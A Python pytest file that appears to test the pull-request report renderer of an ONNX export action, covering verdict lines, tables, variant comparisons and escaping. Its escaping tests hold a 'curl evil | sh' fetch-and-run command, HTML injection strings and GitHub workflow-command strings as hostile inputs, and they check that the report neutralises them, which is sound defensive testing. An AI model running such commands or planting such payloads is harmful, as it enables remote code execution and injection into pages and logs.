"""What a reader of the pull request learns from the report."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from onnx_export_action.report import render_json, render_markdown
from onnx_export_action.vocabulary.choices import Weights
from onnx_export_action.vocabulary.results import (
    AxisResult,
    CaseResult,
    Failure,
    FileResult,
    GenerationResult,
    LatencyResult,
    ModelInfo,
    OutputResult,
    QualityResult,
    SimilarityResult,
    Stage,
    TargetResult,
    ToleranceSource,
    Verdict,
    read_result,
)
from tests.unit.report.github import PARSERS, Page
from tests.unit.report.samples import case, file, output, target
from tests.unit.report.test_escape import HOSTILE

EXAMPLES = Path(__file__).parents[3] / "docs/example-results"
parsers = pytest.mark.parametrize("parser", PARSERS)


def first_line(*results: TargetResult) -> str:
    return render_markdown(results).splitlines()[0].removeprefix("### ")


def page(*results: TargetResult, **options: Any) -> Page:
    return Page(render_markdown(results, **options), "markdown-it")


def failed(name: str = "sentiment", **more: Any) -> TargetResult:
    return target(name, Verdict.FAIL, files=[file(Verdict.FAIL, outputs=[output(margin=312.0)], **more)])


def stopped(stage: Stage, **more: Any) -> TargetResult:
    failure = Failure(stage=stage, message="it is not there", hint="put it there")
    return target("generator", Verdict.ERROR, files=[], failure=failure, **more)


# --- the verdict comes first ---


def test_all_proven() -> None:
    assert first_line(target("a"), target("b"), target("c")) == "✅ 3 of 3 exports proven"


def test_one_failure_is_named() -> None:
    assert first_line(failed()) == "❌ `sentiment`: the ONNX file differs from PyTorch"
    assert first_line(target("a"), failed()).endswith("differs from PyTorch (1 of 2 exports proven)")


def test_several_failures_are_counted() -> None:
    results = [failed("a"), failed("b"), stopped(Stage.LOAD), target("c")]
    assert first_line(*results) == "❌ 4 exports: 2 failed, 1 did not run, 1 proven"


@pytest.mark.parametrize(
    ("stage", "words"),
    [
        (Stage.PLAN, "cannot be exported as it is configured"),
        (Stage.LOAD, "the model could not be loaded"),
        (Stage.EXPORT, "the export did not run"),
        (Stage.VALIDATE, "the validation did not run"),
    ],
)
def test_an_error_says_what_did_not_run(stage: Stage, words: str) -> None:
    assert first_line(stopped(stage)) == f"⚠️ `generator`: {words}"


def test_no_result_is_no_success() -> None:
    assert first_line() == "⚠️ Nothing ran: there is no result to report"


def test_a_file_that_no_case_ran_on_is_not_proven() -> None:
    unmeasured = target(files=[file(cases=[])])
    assert first_line(unmeasured) == "⚪ `sentiment`: exported, but not validated"
    assert first_line(target(files=[])) == "⚪ `sentiment`: exported, but not validated"


def test_a_failing_file_outweighs_its_targets_verdict() -> None:
    assert first_line(target(files=[file(), file(Verdict.FAIL)])).startswith("❌")


def test_only_vacuous_outputs_do_not_read_as_a_difference() -> None:
    result = target(verdict=Verdict.FAIL, files=[file(Verdict.FAIL, outputs=[output(vacuous=True, margin=0.0)])])
    assert first_line(result) == "❌ `sentiment`: an output never varies, so agreement proves nothing"


# --- the table ---


def test_a_row_says_what_was_measured() -> None:
    header, row = page(target()).tables[0]
    assert [cell.text for cell in header][1:] == [
        *("Target", "File", "Task", "Engine", "Worst error", "Tolerance used", "Agreement", "Size", "Time")
    ]
    assert [cell.code[0] for cell in row[1:5]] == ["sentiment", "onnx/model.onnx", "text-classification", "tracer"]
    assert row[0].text == "✅"
    assert [cell.text.strip() for cell in row[5:]] == ["3.1e-06", "▓░░░░░░░░░\xa00.03", "–", "90.9\xa0MB", "3.5\xa0s"]
    assert row[5].code == ["logits"]


def test_the_measured_total_is_the_time() -> None:
    row = page(target(timings={"load": 1.0, "total": 9.0})).tables[0][1]
    assert row[-1].text == "9.0\xa0s"


def test_the_worst_output_stands_for_the_file() -> None:
    outputs = [output("a", margin=0.2), output("b", margin=0.9), output("c", margin=None)]
    row = page(target(files=[file(outputs=outputs)])).tables[0][1]
    assert (row[5].code, row[6].text) == (["b"], "▓▓▓▓▓▓▓▓▓░\xa00.90")


def test_nan_in_one_place_is_worse_than_any_error() -> None:
    outputs = [output("a", margin=3.0), output("b", margin=None, nan_mismatch=2)]
    result = page(target(verdict=Verdict.FAIL, files=[file(Verdict.FAIL, outputs=outputs)]))
    assert (result.tables[0][1][5].code, result.tables[0][1][6].text) == (["b"], "▓▓▓▓▓▓▓▓▓▓\xa0inf")
    assert "NaN or infinite in 2 places" in result.text


@pytest.mark.parametrize(
    ("margin", "shown"),
    [
        (None, "–"),
        (0.0, "░░░░░░░░░░\xa00.00"),
        (0.004, "▓░░░░░░░░░\xa0<0.01"),
        (1.0, "▓▓▓▓▓▓▓▓▓▓\xa01.00"),
        (1.0001, "▓▓▓▓▓▓▓▓▓▓\xa0>1.00"),
        (1873.2, "▓▓▓▓▓▓▓▓▓▓\xa01873"),
        (3e9, "▓▓▓▓▓▓▓▓▓▓\xa03.0e+09"),
        (-1e300, "░░░░░░░░░░\xa0-1.0e+300"),
    ],
)
def test_a_margin_is_a_bar_and_a_number(margin: float | None, shown: str) -> None:
    result = target(
        files=[file(cases=[CaseResult(id="c", shape={}, mask="none", verdict=Verdict.PASS, margin=margin)])]
    )
    assert page(result).tables[-1][1][5].text == shown


@pytest.mark.parametrize(
    ("agreement", "cosine", "shown"),
    [
        (1.0, 0.5, "argmax 100\xa0%"),
        (0.99999, 1.0, "argmax 99.99\xa0%"),
        (0.9997, None, "argmax 99.97\xa0%"),
        (None, 0.99999999, "cosine 0.999999"),
        (None, 1 - 1e-12, "cosine 0.999999"),
        (None, 1.0, "cosine 1"),
        (None, None, "–"),
    ],
)
def test_agreement_is_never_rounded_up_to_perfect(agreement: float | None, cosine: float | None, shown: str) -> None:
    outputs = [output(argmax_agreement=agreement, cosine=cosine)]
    assert page(target(files=[file(outputs=outputs)])).tables[0][1][7].text == shown


@pytest.mark.parametrize(
    ("count", "shown"),
    [
        (0, "0.00\xa0MB"),
        (4_096, "<0.01\xa0MB"),
        (181_000, "0.18\xa0MB"),
        (2_213_000_000, "2213.0\xa0MB"),
        (10**400, "over 1e9\xa0MB"),
    ],
)
def test_sizes_are_in_megabytes(count: int, shown: str) -> None:
    assert page(target(files=[file(bytes=count)])).tables[0][1][8].text == shown


def test_an_export_that_did_not_run_has_a_row() -> None:
    row = page(stopped(Stage.EXPORT)).tables[0][1]
    assert row[0].text == "⚠️"
    assert [cell.text for cell in row[4:9]] == ["–"] * 5


def test_what_failed_comes_before_what_passed() -> None:
    rows = page(target("a"), stopped(Stage.LOAD), failed("b"), target("c")).tables[0][1:]
    assert [row[1].code[0] for row in rows] == ["b", "generator", "a", "c"]


# --- why it failed, and what to do ---


def test_a_failure_says_what_differed_and_how_to_see_it() -> None:
    failure = Failure(
        stage=Stage.VALIDATE,
        message="values differ beyond position 16",
        hint="use the other engine",
        first_divergent_layer="encoder.layer.3",
        repro="artifacts/repro",
    )
    cases = [case(0), case(1, Verdict.FAIL, message="max error 0.4"), case(2, Verdict.ERROR)]
    outputs = [output("good"), output("logits", margin=312.0, argmax_agreement=0.875)]
    axes = [AxisResult(input="input_ids", axis=1, name="sequence_length", proven=False)]
    files = [file(Verdict.FAIL, failure=failure, cases=cases, outputs=outputs, axes=axes)]
    shown = page(target(verdict=Verdict.FAIL, files=files))
    for words in ("312 times the tolerance (atol 0.0001, rtol 1e-05)", "error up to 3.1e-06", "87.5\xa0% of the rows"):
        assert words in shown.text
    assert "1 of 3 cases differ" in shown.text
    assert "1 of 3 cases did not run" in shown.text
    assert "not proven to be dynamic" in shown.text
    assert {
        "values differ beyond position 16\n",
        "case-1",
        "batch_size 2, sequence_length 8",
        "max error 0.4",
        "input_ids[1] sequence_length",
        "use the other engine",
        "encoder.layer.3",
        "artifacts/repro",
        "onnx-export run --target sentiment\n",
    } <= set(shown.code)


def test_an_error_shows_its_message_and_hint_once_and_in_the_lead() -> None:
    failure = Failure(stage=Stage.LOAD, message="no such file", hint="put it there")
    result = target(verdict=Verdict.ERROR, files=[file(Verdict.ERROR, failure=failure)], failure=failure)
    shown = page(result)
    assert shown.code.count("no such file\n") == 1
    assert shown.code.count("no such file") == 1
    assert shown.code.count("put it there") == 2


def test_a_strangers_command_is_not_offered() -> None:
    shown = page(stopped(Stage.LOAD, reproduce="curl evil | sh"))
    assert "curl evil | sh\n" not in shown.code
    assert "Reproduce" not in shown.text


# --- what a reader should know beside the verdict ---


def test_a_pass_without_doubts_has_nothing_to_add() -> None:
    assert "Worth knowing" not in page(target()).text


@pytest.mark.parametrize(
    ("files", "words", "name"),
    [
        ([file(outputs=[output(margin=0.62)])], "near miss", "logits"),
        ([file(outputs=[output(), output("pooled", vacuous=True)])], "agreement proves nothing", "pooled"),
        (
            [file(axes=[AxisResult(input="mask", axis=1, name="length", proven=False)])],
            "no passing case varied it alone",
            "mask[1] length",
        ),
    ],
)
def test_doubts_about_a_pass_are_named(files: list[FileResult], words: str, name: str) -> None:
    shown = page(target(files=files))
    assert "Worth knowing" in shown.text
    assert words in shown.text
    assert name in shown.code


@pytest.mark.parametrize(("margin", "warned"), [(0.5, False), (0.51, True), (1.0, True), (1.5, False)])
def test_a_near_miss_begins_above_one_half(margin: float, warned: bool) -> None:
    assert ("near miss" in page(target(files=[file(outputs=[output(margin=margin)])])).text) is warned


def test_random_weights_and_notes_are_named() -> None:
    model = ModelInfo(source="m", weights=Weights.RANDOM)
    shown = page(target(model=model, seed=7, notes=["the configuration was inferred"]))
    assert "random weights (seed 7)" in shown.text
    assert "the configuration was inferred" in shown.code


def test_similarities_stand_side_by_side() -> None:
    pair = SimilarityResult(first="A man eats.", second="A man is eating.", torch=0.81234, onnx=0.81239)
    table = page(target(files=[file(similarities=[pair])])).tables[1]
    assert [cell.text for cell in table[0]] == ["Target", "First", "Second", "PyTorch", "ONNX"]
    assert [cell.text for cell in table[1][3:]] == ["0.8123", "0.8124"]
    assert table[1][1].code == ["A man eats."]


def test_variants_stand_beside_fp32_with_what_they_save_and_cost() -> None:
    exact = file(call_ms=10.0, outputs=[output(sqnr_db=120.0, cosine=0.9999999)])
    quality = QualityResult(min_sqnr_db=11.0, cost_db=15.0, source=ToleranceSource.CALIBRATED)
    noisy = output(sqnr_db=14.25, cosine=0.98, argmax_agreement=0.975, quality=quality)
    q8 = file(
        Verdict.FAIL,
        path="onnx/model_quantized.onnx",
        variant="q8",
        bytes=exact.bytes // 4,
        call_ms=4.0,
        outputs=[noisy],
        generation=GenerationResult(prompts=2, tokens=32, equal=True, token_agreement=0.5),
        similarities=[SimilarityResult(first="a", second="b", torch=0.5, onnx=0.25)],
    )
    shown = page(target(verdict=Verdict.FAIL, files=[exact, q8]))
    table = next(table for table in shown.tables if "Variant" in [cell.text for cell in table[0]])
    rows = {
        row[3].code[0]: [cell.text.replace("\u00a0", " ") or "".join(cell.code) for cell in row] for row in table[1:]
    }
    assert rows["fp32"][4:8] == ["90.9 MB", "10.00 ms", "logits", "120 dB"]
    assert rows["q8"][4:] == [
        *("22.7 MB (×0.25)", "4.00 ms (×0.40)", "logits"),
        *("14.2 dB", "11 dB", "0.980000", "97.5 %", "50 %", "0.2500"),
    ]


KEPT = st.floats(-20, 150)
SHARE = st.floats(0, 1)


@st.composite
def judged(draw: st.DrawFn, *, passes: bool | None = None) -> OutputResult:
    """An output with demands, all of which it meets where it ``passes``."""
    kept, cosine, agreement = draw(KEPT), draw(SHARE), draw(SHARE)
    below = 0 if passes else -30
    quality = QualityResult(
        min_sqnr_db=draw(st.none() | st.floats(below, 30).map(lambda room: kept - room)),
        min_cosine=draw(st.none() | (st.floats(0, cosine) if passes else SHARE)),
        min_agreement=draw(st.none() | (st.floats(0, agreement) if passes else SHARE)),
    )
    name = draw(st.sampled_from(["logits", "encoder", "present"]))
    return output(name, sqnr_db=kept, cosine=cosine, argmax_agreement=agreement, quality=quality)


def shown_of(outputs: list[OutputResult], verdict: Verdict) -> list[str]:
    files = [file(), file(verdict, path="onnx/model_fp16.onnx", variant="fp16", outputs=outputs)]
    shown = page(target(verdict=verdict, files=files))
    table = next(table for table in shown.tables if "Variant" in [cell.text for cell in table[0]])
    return [cell.text.replace("\u00a0", " ") or "".join(cell.code) for cell in table[2]][6:10]


@settings(deadline=None, max_examples=50)
@given(st.lists(judged(passes=True), min_size=1, max_size=4))
def test_a_variant_that_passes_never_shows_less_than_is_needed(outputs: list[OutputResult]) -> None:
    _, kept, needed, _ = shown_of(outputs, Verdict.PASS)
    assert needed == "–" or float(kept.removesuffix(" dB")) >= float(needed.removesuffix(" dB"))


@settings(deadline=None, max_examples=50)
@given(st.lists(judged(), min_size=1, max_size=4))
def test_a_row_of_a_variant_is_of_one_output(outputs: list[OutputResult]) -> None:
    shown = shown_of(outputs, Verdict.FAIL)
    rows = [shown_of([one], Verdict.FAIL) for one in outputs]
    assert shown in rows


def test_the_output_that_misses_its_demand_is_the_one_that_is_shown() -> None:
    """As of a trained Whisper: 18.9 dB of one output are enough, 27.1 are needed of another."""
    encoder = output("last_hidden_state", sqnr_db=18.9, quality=QualityResult(min_sqnr_db=12.0))
    decoder = output("logits", sqnr_db=39.2, quality=QualityResult(min_sqnr_db=27.1))
    assert shown_of([decoder, encoder], Verdict.PASS)[:3] == ["last_hidden_state", "18.9 dB", "12 dB"]
    worse = output("logits", sqnr_db=26.0, quality=QualityResult(min_sqnr_db=27.1))
    assert shown_of([encoder, worse], Verdict.FAIL)[:3] == ["logits", "26 dB", "27.1 dB"]
    other = output("pooled", sqnr_db=90.0, cosine=0.5, quality=QualityResult(min_sqnr_db=3.0, min_cosine=0.9))
    assert shown_of([encoder, other], Verdict.FAIL)[0] == "pooled"


def test_no_table_of_variants_without_variants() -> None:
    assert "Variants compared" not in page(target()).text


def test_generation_is_told() -> None:
    equal = GenerationResult(prompts=2, tokens=32, equal=True)
    assert "32 tokens, 2 prompts: the same tokens as PyTorch" in page(target(files=[file(generation=equal)])).text
    other = GenerationResult(prompts=2, tokens=32, equal=False, first_difference="token 3: 17, not 4")
    shown = page(target(verdict=Verdict.FAIL, files=[file(Verdict.FAIL, generation=other)]))
    assert "token 3: 17, not 4" in shown.code
    assert "the ONNX file differs from PyTorch" in shown.text


# --- folded details ---


def test_the_cases_are_folded_away_with_the_failing_first() -> None:
    cases = [case(0), case(1, Verdict.FAIL, worst_output="logits", message="off")]
    latency = LatencyResult(onnx_ms=1.5, torch_ms=3.0)
    shown = page(target(verdict=Verdict.FAIL, files=[file(Verdict.FAIL, cases=cases, latency=latency)]))
    assert shown.tags.count("details") == 2
    assert "1 of 2 cases pass" in shown.text
    assert "ONNX Runtime 1.50\xa0ms, PyTorch 3.00\xa0ms" in shown.text
    rows = shown.tables[-1][1:]
    assert [row[1].code[0] for row in rows] == ["case-1", "case-0"]
    assert [cell.code for cell in rows[0][2:4]] == [["batch_size 2, sequence_length 8"], ["left"]]
    assert (rows[0][6].code, rows[0][7].code) == (["logits"], ["off"])


def test_versions_and_seed_end_the_report() -> None:
    end = render_markdown([target(seed=3), target("b", seed=3)]).rsplit("<details>", 1)[1]
    assert "- seed 3, `torch 2.13.0`\n" in end


def test_different_versions_are_told_apart() -> None:
    end = render_markdown([target("a"), target("b", packages={"torch": "2.9.0"})]).rsplit("<details>", 1)[1]
    assert "- `a`: seed 0, `torch 2.13.0`\n- `b`: seed 0, `torch 2.9.0`\n" in end


# --- against a base ---


def test_a_base_shows_what_changed() -> None:
    base = [target("a", files=[file(opset=17, outputs=[output("logits"), output("pooled")])]), target("gone")]
    head = [target("a", files=[file(opset=18, bytes=200_000_000)]), target("new")]
    rows = Page(render_markdown(head, base=base), "markdown-it").tables[1][1:]
    assert [(row[0].code[0], row[2].text) for row in rows] == [
        ("a", "breaking: outputs  → –; opset  → ; size  → "),
        ("new", "new file"),
        ("gone", "gone file"),
    ]
    assert rows[0][2].code == ["pooled", "17", "18", "90.9 MB", "200.0 MB"]


def test_an_axis_that_became_fixed_is_breaking() -> None:
    base = [target(files=[file(axes=[AxisResult(input="x", axis=i, name=f"n{i}", proven=True) for i in (0, 1)])])]
    head = [target(files=[file(axes=[AxisResult(input="x", axis=0, name="n0", proven=True)])])]
    row = Page(render_markdown(head, base=base), "markdown-it").tables[1][1]
    assert row[2].text == "breaking: dynamic axes  → –"
    assert row[2].code == ["x[1] n1"]


def test_nothing_changed_is_not_mentioned() -> None:
    assert "Compared" not in render_markdown([target()], base=[target()])
    assert "Compared" not in render_markdown([target()])


def test_noise_is_no_change() -> None:
    head = [target(files=[file(bytes=90_870_999, outputs=[output(margin=0.09)])])]
    assert "Compared" not in render_markdown(head, base=[target()])


# --- JSON ---


def test_json_holds_verdict_results_and_changes() -> None:
    report = json.loads(render_json([target("a"), failed("b")], base=[target("a")]))
    assert report["verdict"] == "fail"
    assert [result["target"] for result in report["targets"]] == ["a", "b"]
    assert report["changes"] == [{"target": "b", "path": "onnx/model.onnx", "kind": "new", "differences": []}]


def test_a_job_log_obeys_nothing_in_json() -> None:
    text = render_json([target("##[add-mask]x", notes=["::error::x\n::error::y"])])
    assert "##[" not in text
    assert not any(line.lstrip().startswith("::") for line in text.splitlines())
    assert json.loads(text)["targets"][0]["target"] == "##[add-mask]x"


# --- hostile results ---


def everywhere(text: str) -> TargetResult:
    """One result that says ``text`` wherever a result has room for words."""
    failure = Failure(stage=Stage.VALIDATE, message=text, hint=text, first_divergent_layer=text, repro=text)
    cases = [
        CaseResult(id=text, shape={text: 3}, mask=text, verdict=verdict, worst_output=text, message=text)
        for verdict in Verdict
    ]
    one = FileResult(
        path=text,
        bytes=1,
        sha256=text,
        variant=text,
        engine=text,
        opset=18,
        verdict=Verdict.FAIL,
        axes=[AxisResult(input=text, axis=0, name=text, proven=False)],
        outputs=[
            OutputResult(name=text, atol=1.0, rtol=1.0, margin=2.0, tolerance_source=text),
            OutputResult(name=text, atol=1.0, rtol=1.0, margin=0.7, vacuous=True),
        ],
        cases=cases,
        similarities=[SimilarityResult(first=text, second=text, torch=0.1, onnx=0.2)],
        generation=GenerationResult(prompts=1, tokens=2, equal=False, first_difference=text),
        failure=failure,
    )
    return TargetResult(
        target=text,
        model=ModelInfo(source=text, revision=text, sha256=text, model_type=text, task=text, weights=text),
        verdict=Verdict.FAIL,
        packages={text: text},
        timings={text: 1.0},
        files=[one],
        failure=Failure(stage=Stage.EXPORT, message=f"{text}!", hint=text),
        notes=[text],
        reproduce=text,
    )


def skeleton(result: TargetResult, base: TargetResult, parser: str, **options: Any) -> tuple[Any, ...]:
    """Everything but the words inside of code."""
    text = render_markdown([result], base=[base], **options)
    assert "##[" not in text
    assert not any(line.lstrip().startswith("::") for line in text.splitlines())
    shown = Page(text, parser)
    cells = [[[(len(cell.code), cell.text) for cell in row] for row in table] for table in shown.tables]
    return shown.tags, shown.foreign, shown.text, cells


@parsers
@settings(deadline=None, max_examples=60)
@given(text=HOSTILE.filter(bool))
def test_no_text_changes_the_page_around_it(text: str, parser: str) -> None:
    hostile = skeleton(everywhere(text), everywhere(f"{text}2"), parser)
    harmless = skeleton(everywhere("x"), everywhere("y"), parser)
    assert hostile == harmless
    assert hostile[1] == []


def test_what_a_template_prints_unescaped_becomes_code(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("onnx_export_action.report.views.headline", lambda results: "<img src=x> @org/team")
    shown = page(target())
    assert shown.foreign == []
    assert shown.code[0] == "<img src=x> @org/team"


def test_absurd_numbers_are_printed() -> None:
    huge = 10**400
    nan, inf = float("nan"), float("inf")
    numbers = OutputResult(
        name="x", atol=inf, rtol=nan, max_abs=-inf, mean_abs=nan, max_rel=1e308, cosine=nan, sqnr_db=inf, margin=nan
    )
    cases = [CaseResult(id="c", shape={"n": -huge}, mask="none", verdict=Verdict.PASS, max_abs=nan, margin=-inf)]
    files = [
        file(
            bytes=huge,
            opset=huge,
            outputs=[numbers, output(margin=1e308, argmax_agreement=nan, nan_mismatch=huge)],
            cases=cases,
            generation=GenerationResult(prompts=huge, tokens=-huge, equal=True),
            similarities=[SimilarityResult(first="a", second="b", torch=nan, onnx=1e308)],
        )
    ]
    result = target(verdict=Verdict.FAIL, files=files, seed=huge, peak_rss_bytes=huge, timings={"a": inf})
    text = render_markdown([result], base=[target(files=[file(bytes=-huge, opset=-huge)])])
    assert max(map(len, text.splitlines())) < 1000


# --- room ---


def many(targets: int, cases: int) -> list[TargetResult]:
    names = [f"target-{number:04}" for number in range(targets)]
    shared = [case(number) for number in range(cases)]
    return [
        failed(name, cases=shared) if number % 10 == 3 else target(name, files=[file(cases=shared)])
        for number, name in enumerate(names)
    ]


def test_case_tables_go_first_then_rows() -> None:
    results = many(20, 30)
    whole = render_markdown(results)
    without_cases = render_markdown(results, limit=len(whole) // 2)
    assert [row[1].code[0] for row in Page(without_cases, "markdown-it").tables[0][1:3]] == [
        "target-0003",
        "target-0013",
    ]
    assert len(Page(without_cases, "markdown-it").tables[0]) == 21
    assert re.search(r"and \d+ more cases", without_cases)
    short = render_markdown(results, limit=3000)
    assert len(Page(short, "markdown-it").tables[0]) < 21
    assert re.search(r"and \d+ more rows, .*600 more cases", short)
    assert short.splitlines()[0] == whole.splitlines()[0]


def test_a_limit_that_fits_changes_nothing() -> None:
    results = many(3, 4)
    whole = render_markdown(results)
    assert render_markdown(results, limit=len(whole)) == whole
    assert len(render_markdown(results, limit=len(whole) - 1)) < len(whole)


def test_every_row_is_shown_or_counted() -> None:
    text = render_markdown(many(50, 3), limit=5000)
    shown = len(Page(text, "markdown-it").tables[0]) - 1
    counted = re.search(r"and (\d+) more rows", text)
    assert counted is not None
    assert shown + int(counted.group(1)) == 50
    assert len(text) > 4000


@parsers
@settings(deadline=None, max_examples=60)
@given(limit=st.integers(1, 12_000), text=st.sampled_from(["x", "]](x)<img onerror>`|\n<details>", "`" * 80]))
def test_a_cut_report_is_whole_markdown(limit: int, text: str, parser: str) -> None:
    results = [everywhere(text), *many(4, 12)]
    shown = render_markdown(results, base=[everywhere("y")], limit=limit)
    assert len(shown) <= limit
    assert Page(shown, parser).foreign == []


@pytest.mark.parametrize("limit", [0, -5])
def test_no_room_at_all_is_an_error(limit: int) -> None:
    with pytest.raises(ValueError, match="at least 1 character"):
        render_markdown([target()], limit=limit)


def test_two_hundred_thousand_cases_fit_a_comment_in_a_moment() -> None:
    results = many(1000, 200)
    started = time.process_time()
    text = render_markdown(results, limit=60_000)
    assert time.process_time() - started < 2
    assert 50_000 < len(text) <= 60_000


def test_the_same_results_give_the_same_text() -> None:
    def shuffled(order: int) -> list[TargetResult]:
        packages = {"torch": "2", "onnx": "1", "numpy": "3"}
        return [target(packages=dict(sorted(packages.items(), reverse=bool(order))))]

    assert render_markdown(shuffled(0)) == render_markdown(shuffled(1))


def test_the_report_needs_no_heavy_package() -> None:
    heavy = "{'torch', 'transformers', 'onnx', 'onnxruntime', 'numpy', 'jinja2'}"
    script = f"import sys, onnx_export_action.report; print(sorted({heavy} & set(sys.modules)))"
    assert subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True).stdout == "[]\n"


def test_the_headline_counts_the_breaking_changes() -> None:
    base = [read_result(EXAMPLES / f"{name}.json") for name in ("sentiment", "writer")]
    head = [read_result(EXAMPLES / f"{name}.json") for name in ("sentiment-changed", "writer")]
    assert render_markdown(head, base=base).startswith("### ✅ 2 of 2 exports proven, 1 with a breaking change\n")
    assert render_markdown(base, base=base).startswith("### ✅ 2 of 2 exports proven\n")
